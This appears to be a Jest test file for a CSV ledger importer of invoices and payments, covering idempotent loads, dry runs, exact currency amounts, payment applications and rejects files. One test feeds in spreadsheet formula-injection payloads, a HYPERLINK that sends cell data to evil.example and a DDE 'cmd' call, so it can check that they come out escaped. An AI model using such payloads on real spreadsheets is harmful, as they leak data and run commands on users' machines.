/** The import end to end on a snapshot store: idempotency, all-or-none, the mapping, exact amounts, payments. */
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { CollectionsError } from '../../src/cli/errors';
import { ACCOUNT, INVOICE, PAYMENT, PAYMENT_APPLICATION, type ObjectSchema, type Row } from '../../src/records/schema';
import type { CollectionsStore, UpsertResult } from '../../src/store/store';
import { importLedger } from '../../src/importer/importLedger';
import { portfolioFromStore } from '../../src/records/portfolioFromRecords';
import {
  EXAMPLES,
  INVOICE_HEADER,
  PAYMENT_HEADER,
  readRejects,
  readSnapshot,
  runImport,
  snapshotFiles,
  workspace,
} from './helpers';

const examples = {
  invoices: join(EXAMPLES, 'invoices.csv'),
  payments: join(EXAMPLES, 'payments.csv'),
  withErrors: join(EXAMPLES, 'invoices-with-errors.csv'),
  sap: join(EXAMPLES, 'sap-export.csv'),
  sapMapping: join(EXAMPLES, 'sap-mapping.json'),
};

describe('the example ledger', () => {
  test('loads every row, and importing it again changes nothing, byte for byte', async () => {
    const ws = workspace();
    const options = { cwd: ws.dir, invoices: examples.invoices, payments: examples.payments };
    const first = await runImport(ws.store, options);
    expect(first.report.files.map((file) => [file.rowsIn, file.loaded, file.rejected])).toEqual([
      [12, 12, 0],
      [7, 7, 0],
    ]);
    expect(first.report.files[0]?.objects).toEqual({
      Account: { created: 6, updated: 0, unchanged: 0, failed: 0 },
      Invoice__c: { created: 12, updated: 0, unchanged: 0, failed: 0 },
    });
    expect(first.report.files[1]?.objects).toEqual({
      Payment__c: { created: 6, updated: 0, unchanged: 0, failed: 0 },
      Payment_Application__c: { created: 5, updated: 0, unchanged: 0, failed: 0 },
    });
    const before = snapshotFiles(ws.snapshotDir);
    expect(Object.keys(before)).toEqual([
      'Account.csv',
      'Invoice__c.csv',
      'Payment_Application__c.csv',
      'Payment__c.csv',
    ]);

    const second = await runImport(ws.store, options);
    for (const file of second.report.files) {
      expect(file.store).toMatchObject({ created: 0, updated: 0, failed: 0 });
      expect(file.store.unchanged).toBeGreaterThan(0);
    }
    expect(snapshotFiles(ws.snapshotDir)).toEqual(before);
  });

  test('writes the records the batch reads: accounts, invoices and credit memos, payments and their applications', async () => {
    const ws = workspace();
    await runImport(ws.store, { cwd: ws.dir, invoices: examples.invoices, payments: examples.payments });
    expect(
      readSnapshot(ws.snapshotDir, ACCOUNT.object).find((row) => row.Customer_Number__c === 'C-1006'),
    ).toMatchObject({
      Name: 'Van Dijk Installatietechniek B.V.',
      BillingCountry: 'NL',
      Preferred_Language__c: 'nl_NL',
      Billing_Email__c: 'crediteuren@vandijk.example',
    });
    const invoices = readSnapshot(ws.snapshotDir, INVOICE.object);
    expect(invoices.find((row) => row.Invoice_Number__c === 'CM-2026-0003')).toMatchObject({
      Name: 'CM-2026-0003',
      'Account__r.Customer_Number__c': 'C-1001',
      Document_Type__c: 'Credit_Memo',
      CurrencyIsoCode: 'USD',
      Amount__c: '-310.25',
      Open_Balance__c: '',
      Status__c: '',
    });
    // unapplied cash: a payment without an application
    expect(
      readSnapshot(ws.snapshotDir, PAYMENT.object).find((row) => row.Payment_Reference__c === 'PAY-88004'),
    ).toMatchObject({
      'Account__r.Customer_Number__c': 'C-1004',
      CurrencyIsoCode: 'SGD',
      Amount__c: '2000.00',
    });
    const applications = readSnapshot(ws.snapshotDir, PAYMENT_APPLICATION.object);
    expect(applications.some((row) => row['Payment__r.Payment_Reference__c'] === 'PAY-88004')).toBe(false);
    // a remittance of two rows: one application, the rest unapplied, the payment the sum
    expect(
      readSnapshot(ws.snapshotDir, PAYMENT.object).find((row) => row.Payment_Reference__c === 'PAY-88006')?.Amount__c,
    ).toBe('1000.00');
    expect(applications.find((row) => row.Application_Key__c === 'PAY-88006/INV-2026-0007')).toEqual({
      Application_Key__c: 'PAY-88006/INV-2026-0007',
      'Payment__r.Payment_Reference__c': 'PAY-88006',
      'Invoice__r.Invoice_Number__c': 'INV-2026-0007',
      CurrencyIsoCode: 'EUR',
      Applied_Date__c: '2026-11-03',
      Amount__c: '990.90',
    });
  });

  test('the batch reads what the import wrote', async () => {
    const ws = workspace();
    await runImport(ws.store, { cwd: ws.dir, invoices: examples.invoices, payments: examples.payments });
    const portfolio = await portfolioFromStore(ws.store, 'USD');
    expect([
      portfolio.accounts.length,
      portfolio.invoices.length,
      portfolio.payments.length,
      portfolio.applications.length,
    ]).toEqual([6, 12, 6, 5]);
    expect(portfolio.invoices.find((invoice) => invoice.invoiceNumber === 'INV-2026-0010')?.amount).toEqual({
      currency: 'INR',
      minor: 84500000n,
    });
  });

  test('the SAP export read through its mapping file loads the same ledger as the canonical file', async () => {
    const canonical = workspace();
    await runImport(canonical.store, { cwd: canonical.dir, invoices: examples.invoices, payments: examples.payments });
    const mapped = workspace();
    const { report } = await runImport(mapped.store, {
      cwd: mapped.dir,
      invoices: examples.sap,
      mapping: examples.sapMapping,
    });
    expect(report.files[0]).toMatchObject({ rowsIn: 12, loaded: 12, rejected: 0 });
    await runImport(mapped.store, { cwd: mapped.dir, payments: examples.payments });
    expect(snapshotFiles(mapped.snapshotDir)).toEqual(snapshotFiles(canonical.snapshotDir));
  });

  test('the example with errors: the bad rows are rejected, the good ones load', async () => {
    const ws = workspace();
    const rejects = join(ws.dir, 'rejects.csv');
    const { report } = await runImport(ws.store, { cwd: ws.dir, invoices: examples.withErrors, rejects });
    expect(report.files[0]).toMatchObject({
      rowsIn: 9,
      loaded: 2,
      rejected: 7,
      invalid: 7,
      rejectsFile: 'rejects.csv',
    });
    expect(readRejects(rejects).map((row) => [row.line, row.column])).toEqual([
      ['3', 'invoice_date'],
      ['4', 'amount'],
      ['5', 'currency'],
      ['6', 'amount'],
      ['7', 'amount'],
      ['8', 'amount'],
      ['10', 'due_date'],
    ]);
    expect(existsSync(join(EXAMPLES, 'invoices-with-errors.rejects.csv'))).toBe(false);
  });
});

describe('--all-or-none and --dry-run', () => {
  test('--all-or-none with a bad row writes nothing to the store, writes the rejects, and counts every row rejected', async () => {
    const ws = workspace();
    await runImport(ws.store, { cwd: ws.dir, invoices: examples.invoices });
    const before = snapshotFiles(ws.snapshotDir);
    const rejects = join(ws.dir, 'rejects.csv');
    const { report } = await runImport(ws.store, {
      cwd: ws.dir,
      invoices: examples.withErrors,
      payments: examples.payments,
      rejects,
      allOrNone: true,
    });
    expect(report.refused).toBe(true);
    expect(report.files.map((file) => [file.rowsIn, file.loaded, file.rejected, file.invalid])).toEqual([
      [9, 0, 9, 7],
      [7, 0, 7, 0],
    ]);
    expect(report.files[0]?.store).toEqual({ created: 0, updated: 0, unchanged: 0, failed: 0 });
    expect(snapshotFiles(ws.snapshotDir)).toEqual(before);
    expect(readRejects(rejects)).toHaveLength(7);
  });

  test('--all-or-none without a bad row loads everything', async () => {
    const ws = workspace();
    const { report } = await runImport(ws.store, {
      cwd: ws.dir,
      invoices: examples.invoices,
      payments: examples.payments,
      allOrNone: true,
    });
    expect(report.refused).toBe(false);
    expect(report.files.map((file) => file.loaded)).toEqual([12, 7]);
  });

  test('--dry-run writes nothing to the store but writes the rejects', async () => {
    const ws = workspace();
    const rejects = join(ws.dir, 'rejects.csv');
    const { report } = await runImport(ws.store, { cwd: ws.dir, invoices: examples.withErrors, rejects, dryRun: true });
    expect(report.files[0]).toMatchObject({ rowsIn: 9, loaded: 2, rejected: 7 });
    expect(snapshotFiles(ws.snapshotDir)).toEqual({});
    expect(readRejects(rejects)).toHaveLength(7);
  });
});

describe('files written for spreadsheets', () => {
  test('a cell starting with = + - @ reaches the rejects file as text, not as a formula', async () => {
    const ws = workspace();
    const invoices = ws.write('invoices.csv', [
      INVOICE_HEADER,
      'C1,"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",INV-1,2026-02-30,2026-10-01,USD,10.00,invoice,,US,en,',
      "C2,+cmd|' /C calc'!A0,INV-2,2026-09-01,2026-10-01,@SUM(1+1),10.00,invoice,,US,en,",
      'C3,-2+3,INV-3,2026-09-01,2026-10-01,USD,-10.00,invoice,,US,en,',
    ]);
    const { report } = await runImport(ws.store, { cwd: ws.dir, invoices });
    expect(report.files[0]).toMatchObject({ rowsIn: 3, loaded: 0, rejected: 3 });
    const text = readFileSync(join(ws.dir, 'invoices.rejects.csv'), 'utf8');
    const rows = readRejects(join(ws.dir, 'invoices.rejects.csv'));
    expect(rows.map((row) => row.customer_name)).toEqual([
      `'=HYPERLINK("http://evil.example/?"&A1,"Click")`,
      "'+cmd|' /C calc'!A0",
      "'-2+3",
    ]);
    expect(rows[1]).toMatchObject({ column: 'currency', value: "'@SUM(1+1)" });
    // a negative number is a number, not a formula: it stays as it is
    expect(rows[2]).toMatchObject({ column: 'amount', value: '-10.00', amount: '-10.00' });
    for (const row of rows)
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
    expect(text).toContain('\r\n');
  });

  test('an input column named like a rejects column is kept, renamed', async () => {
    const ws = workspace();
    const invoices = ws.write('invoices.csv', [
      `${INVOICE_HEADER},reason`,
      'C1,Acme,INV-1,2026-09-01,2026-10-01,USD,x,invoice,,US,en,,paid late',
    ]);
    await runImport(ws.store, { cwd: ws.dir, invoices });
    const [row] = readRejects(join(ws.dir, 'invoices.rejects.csv'));
    expect(row).toMatchObject({ 'reason (input)': 'paid late', column: 'amount' });
  });
});

describe('amounts', () => {
  test('stay exact in currencies with 0 and 3 decimals (JPY, KWD)', async () => {
    const ws = workspace();
    const invoices = ws.write('invoices.csv', [
      INVOICE_HEADER,
      'C1,Tokyo Precision,INV-J1,2026-09-01,2026-10-01,JPY,1500000,invoice,,JP,en,',
      'C1,Tokyo Precision,INV-J2,2026-09-01,2026-10-01,JPY,1500000.5,invoice,,JP,en,',
      'C2,Gulf Trading,INV-K1,2026-09-01,2026-10-01,KWD,123456789012.345,invoice,,KW,en,',
      'C2,Gulf Trading,INV-K2,2026-09-01,2026-10-01,KWD,0.001,invoice,,KW,en,',
      'C2,Gulf Trading,INV-K3,2026-09-01,2026-10-01,KWD,10.1234,invoice,,KW,en,',
      'C2,Gulf Trading,CM-K4,2026-09-01,2026-10-01,KWD,-7.5,credit_memo,,KW,en,',
    ]);
    const payments = ws.write('payments.csv', [
      PAYMENT_HEADER,
      'P-J1,C1,INV-J1,2026-10-01,JPY,999999',
      'P-K1,C2,INV-K2,2026-10-01,KWD,0.001',
    ]);
    const { report } = await runImport(ws.store, { cwd: ws.dir, invoices, payments });
    expect(report.files[0]).toMatchObject({ rowsIn: 6, loaded: 4, rejected: 2 });
    const amounts = Object.fromEntries(
      readSnapshot(ws.snapshotDir, INVOICE.object).map((row) => [row.Invoice_Number__c, row.Amount__c]),
    );
    expect(amounts).toEqual({
      'INV-J1': '1500000',
      'INV-K1': '123456789012.345',
      'INV-K2': '0.001',
      'CM-K4': '-7.500',
    });
    const rejects = readRejects(join(ws.dir, 'invoices.rejects.csv'));
    expect(rejects.map((row) => [row.line, row.reason])).toEqual([
      ['3', '"1500000.5" has more decimals than JPY allows (0)'],
      ['6', '"10.1234" has more decimals than KWD allows (3)'],
    ]);
    const applications = readSnapshot(ws.snapshotDir, PAYMENT_APPLICATION.object);
    expect(applications.map((row) => [row.Application_Key__c, row.Amount__c])).toEqual([
      ['P-J1/INV-J1', '999999'],
      ['P-K1/INV-K2', '0.001'],
    ]);
  });

  test('a mapping reads decimal commas, thousands separators and M/D/YYYY dates exactly', async () => {
    const ws = workspace();
    const mapping = join(ws.dir, 'mapping.json');
    writeFileSync(mapping, JSON.stringify({ dateFormat: 'M/D/YYYY', decimalSeparator: '.', thousandsSeparator: ',' }));
    const invoices = ws.write('invoices.csv', [
      INVOICE_HEADER,
      'C1,Acme,INV-1,9/1/2026,10/1/2026,USD,"1,234,567.89",invoice,,US,en,',
      'C1,Acme,INV-2,13/1/2026,10/1/2026,USD,10.00,invoice,,US,en,',
      'C1,Acme,INV-3,9/1/2026,10/1/2026,USD,"12,34.00",invoice,,US,en,',
    ]);
    const { report } = await runImport(ws.store, { cwd: ws.dir, invoices, mapping });
    expect(report.files[0]).toMatchObject({ rowsIn: 3, loaded: 1, rejected: 2 });
    expect(readSnapshot(ws.snapshotDir, INVOICE.object)[0]).toMatchObject({
      Invoice_Date__c: '2026-09-01',
      Due_Date__c: '2026-10-01',
      Amount__c: '1234567.89',
    });
    expect(readRejects(join(ws.dir, 'invoices.rejects.csv')).map((row) => [row.line, row.column, row.reason])).toEqual([
      ['3', 'invoice_date', '"13/1/2026" is not a date on the calendar'],
      ['4', 'amount', '"12,34.00" is not an amount (digits with "." for decimals and "," between thousands)'],
    ]);
  });
});

describe('payments', () => {
  const invoiceLines = [INVOICE_HEADER, 'C1,Acme,INV-1,2026-09-01,2026-10-01,USD,100.00,invoice,,US,en,'];

  test('a payment larger than what is left on its invoice applies what is left; the rest stays unapplied', async () => {
    const ws = workspace();
    const invoices = ws.write('invoices.csv', invoiceLines);
    const payments = ws.write('payments.csv', [
      PAYMENT_HEADER,
      'P1,C1,INV-1,2026-10-01,USD,60.00',
      'P2,C1,INV-1,2026-10-02,USD,70.00',
      'P3,C1,INV-1,2026-10-03,USD,5.00',
    ]);
    const { report } = await runImport(ws.store, { cwd: ws.dir, invoices, payments });
    expect(report.files[1]).toMatchObject({ rowsIn: 3, loaded: 3, rejected: 0 });
    expect(readSnapshot(ws.snapshotDir, PAYMENT.object).map((row) => row.Amount__c)).toEqual([
      '60.00',
      '70.00',
      '5.00',
    ]);
    expect(
      readSnapshot(ws.snapshotDir, PAYMENT_APPLICATION.object).map((row) => [row.Application_Key__c, row.Amount__c]),
    ).toEqual([
      ['P1/INV-1', '60.00'],
      ['P2/INV-1', '40.00'],
    ]);
    expect(report.notes).toEqual([
      'line 3: payment P2 pays 70.00 USD on INV-1, which has 40.00 left to pay; 30.00 USD stays unapplied on the payment',
      'line 4: payment P3 pays 5.00 USD on INV-1, which has 0.00 left to pay; 5.00 USD stays unapplied on the payment',
    ]);
  });

  test("what is left counts the applications already in the store from other payments, not the file's own", async () => {
    const ws = workspace();
    const invoices = ws.write('invoices.csv', invoiceLines);
    const earlier = ws.write('earlier.csv', [PAYMENT_HEADER, 'P1,C1,INV-1,2026-10-01,USD,80.00']);
    await runImport(ws.store, { cwd: ws.dir, invoices, payments: earlier });
    const later = ws.write('later.csv', [
      PAYMENT_HEADER,
      'P1,C1,INV-1,2026-10-01,USD,80.00',
      'P2,C1,INV-1,2026-10-05,USD,50.00',
    ]);
    const first = await runImport(ws.store, { cwd: ws.dir, payments: later });
    expect(first.report.files[0]?.objects[PAYMENT_APPLICATION.object]).toMatchObject({ created: 1, unchanged: 1 });
    const files = snapshotFiles(ws.snapshotDir);
    const again = await runImport(ws.store, { cwd: ws.dir, payments: later });
    expect(again.report.files[0]?.store).toMatchObject({ created: 0, updated: 0 });
    expect(snapshotFiles(ws.snapshotDir)).toEqual(files);
    expect(readSnapshot(ws.snapshotDir, PAYMENT_APPLICATION.object).map((row) => row.Amount__c)).toEqual([
      '80.00',
      '20.00',
    ]);
  });

  test("payments alone, for customers and invoices already in the store, use the store's spelling of their keys", async () => {
    const ws = workspace();
    await runImport(ws.store, { cwd: ws.dir, invoices: ws.write('invoices.csv', invoiceLines) });
    const payments = ws.write('payments.csv', [PAYMENT_HEADER, 'p1,c1,inv-1,2026-10-01,usd,10.00']);
    const { report } = await runImport(ws.store, { cwd: ws.dir, payments });
    expect(report.files[0]).toMatchObject({ rowsIn: 1, loaded: 1 });
    expect(readSnapshot(ws.snapshotDir, PAYMENT.object)[0]).toMatchObject({
      'Account__r.Customer_Number__c': 'C1',
      CurrencyIsoCode: 'USD',
    });
    expect(readSnapshot(ws.snapshotDir, PAYMENT_APPLICATION.object)[0]).toMatchObject({
      Application_Key__c: 'p1/INV-1',
      'Invoice__r.Invoice_Number__c': 'INV-1',
    });
  });
});

describe('what the store refuses', () => {
  /** A snapshot store that refuses one key of one object, as an org would (a validation rule, a lock). */
  class RefusingStore implements CollectionsStore {
    constructor(
      private readonly inner: CollectionsStore,
      private readonly object: string,
      private readonly key: string,
    ) {}
    get description(): string {
      return this.inner.description;
    }
    read(schema: ObjectSchema): AsyncIterable<Row> {
      return this.inner.read(schema);
    }
    async upsert(schema: ObjectSchema, rows: readonly Row[]): Promise<UpsertResult> {
      if (schema.object !== this.object) return this.inner.upsert(schema, rows);
      const kept = rows.filter((row) => row[schema.key] !== this.key);
      const result = await this.inner.upsert(schema, kept);
      result.failures.push({
        key: this.key,
        code: 'FIELD_CUSTOM_VALIDATION_EXCEPTION',
        message: 'Amount must match',
        field: 'Amount__c',
      });
      return result;
    }
    loadPolicy(): ReturnType<CollectionsStore['loadPolicy']> {
      return this.inner.loadPolicy();
    }
    usage(): ReturnType<CollectionsStore['usage']> {
      return this.inner.usage();
    }
  }

  test("a record the store refuses counts its rows as rejected, with the store's error in the rejects file", async () => {
    const ws = workspace();
    const store = new RefusingStore(ws.store, INVOICE.object, 'INV-2026-0002');
    const rejects = join(ws.dir, 'rejects.csv');
    const { report } = await runImport(store, { cwd: ws.dir, invoices: examples.invoices, rejects });
    expect(report.files[0]).toMatchObject({ rowsIn: 12, loaded: 11, rejected: 1, invalid: 0 });
    expect(report.files[0]?.store).toMatchObject({ created: 17, failed: 1 });
    expect(report.failures).toEqual([expect.objectContaining({ object: 'Invoice__c', key: 'INV-2026-0002' })]);
    expect(readRejects(rejects)).toEqual([
      expect.objectContaining({
        line: '3',
        column: 'Amount__c',
        reason:
          'not loaded: the store refused Invoice__c INV-2026-0002: FIELD_CUSTOM_VALIDATION_EXCEPTION: Amount must match',
        invoice_number: 'INV-2026-0002',
      }),
    ]);
  });
});

describe('rejects files', () => {
  test('with --rejects and both inputs, one file with a leading file column', async () => {
    const ws = workspace();
    const invoices = ws.write('invoices.csv', [
      INVOICE_HEADER,
      'C1,Acme,INV-1,2026-09-01,2026-10-01,USD,x,invoice,,US,en,',
    ]);
    const payments = ws.write('payments.csv', [PAYMENT_HEADER, 'P1,C9,,2026-10-01,USD,5.00']);
    const rejects = join(ws.dir, 'all-rejects.csv');
    const { report } = await runImport(ws.store, { cwd: ws.dir, invoices, payments, rejects });
    expect(report.files.map((file) => file.rejectsFile)).toEqual(['all-rejects.csv', 'all-rejects.csv']);
    expect(readRejects(rejects).map((row) => [row.file, row.line, row.column])).toEqual([
      ['invoices.csv', '2', 'amount'],
      ['payments.csv', '2', 'customer_number'],
    ]);
  });

  test('a clean run replaces the rejects file of an earlier run with an empty one', async () => {
    const ws = workspace();
    const invoices = ws.write('invoices.csv', [
      INVOICE_HEADER,
      'C1,Acme,INV-1,2026-09-01,2026-10-01,USD,x,invoice,,US,en,',
    ]);
    await runImport(ws.store, { cwd: ws.dir, invoices });
    expect(readRejects(join(ws.dir, 'invoices.rejects.csv'))).toHaveLength(1);
    ws.write('invoices.csv', [INVOICE_HEADER, 'C1,Acme,INV-1,2026-09-01,2026-10-01,USD,1.00,invoice,,US,en,']);
    const { report } = await runImport(ws.store, { cwd: ws.dir, invoices });
    expect(report.files[0]).toMatchObject({ rejected: 0, rejectsFile: 'invoices.rejects.csv' });
    expect(readRejects(join(ws.dir, 'invoices.rejects.csv'))).toHaveLength(0);
  });
});

describe('inputs that cannot be read stop the import before anything is written', () => {
  async function failure(
    lines: string[] | undefined,
    options: { payments?: string[]; mapping?: unknown } = {},
  ): Promise<CollectionsError> {
    const ws = workspace();
    const invoices = lines ? ws.write('invoices.csv', lines) : join(ws.dir, 'missing.csv');
    const payments = options.payments ? ws.write('payments.csv', options.payments) : undefined;
    let mapping: string | undefined;
    if (options.mapping !== undefined) {
      mapping = join(ws.dir, 'mapping.json');
      writeFileSync(mapping, typeof options.mapping === 'string' ? options.mapping : JSON.stringify(options.mapping));
    }
    const error = await importLedger(ws.store, {
      cwd: ws.dir,
      invoices,
      ...(payments ? { payments } : {}),
      ...(mapping ? { mapping } : {}),
    }).then(
      () => undefined,
      (caught: unknown) => caught,
    );
    expect(error).toBeInstanceOf(CollectionsError);
    expect(snapshotFiles(ws.snapshotDir)).toEqual({});
    return error as CollectionsError;
  }

  test('a missing file', async () => {
    expect((await failure(undefined)).message).toBe('The invoices file missing.csv does not exist.');
  });

  test('a file without a header', async () => {
    expect((await failure([])).message).toBe('invoices.csv has no header row.');
  });

  test('missing required columns, named', async () => {
    const error = await failure(['customer_number,customer_name,invoice_number,amount', 'C1,Acme,INV-1,10.00']);
    expect(error.code).toBe('MissingColumns');
    expect(error.message).toContain('missing required columns: invoice_date, due_date, currency');
  });

  test('missing columns of the payments file, before the invoices are loaded', async () => {
    const error = await failure([INVOICE_HEADER, 'C1,Acme,INV-1,2026-09-01,2026-10-01,USD,1.00,invoice,,US,en,'], {
      payments: ['payment_reference,customer_number,amount', 'P1,C1,1.00'],
    });
    expect(error.message).toContain('payments.csv: missing required columns: invoice_number, received_date, currency');
  });

  test('a column twice in the header', async () => {
    expect((await failure([`${INVOICE_HEADER},amount`])).message).toContain(
      'column "amount" appears twice in the header',
    );
  });

  test('a mapping naming a column the file does not have', async () => {
    const error = await failure([INVOICE_HEADER], { mapping: { invoices: { columns: { amount: 'Betrag' } } } });
    expect(error.message).toContain('missing required column: amount (mapped to "Betrag")');
  });

  test('an invalid mapping file', async () => {
    const error = await failure([INVOICE_HEADER], { mapping: { dateFormat: 'DD/MM/YY', invoice: {} } });
    expect(error.code).toBe('MappingError');
    expect(error.message).toContain('unknown key "invoice"');
    expect(error.message).toContain('two-digit years (YY) are ambiguous');
  });

  test('a row with the wrong number of cells', async () => {
    const ws = workspace();
    const invoices = ws.write('invoices.csv', [INVOICE_HEADER, 'C1,Acme']);
    await expect(importLedger(ws.store, { cwd: ws.dir, invoices })).rejects.toThrow(/invoices.csv:2/);
    expect(snapshotFiles(ws.snapshotDir)).toEqual({});
  });
});
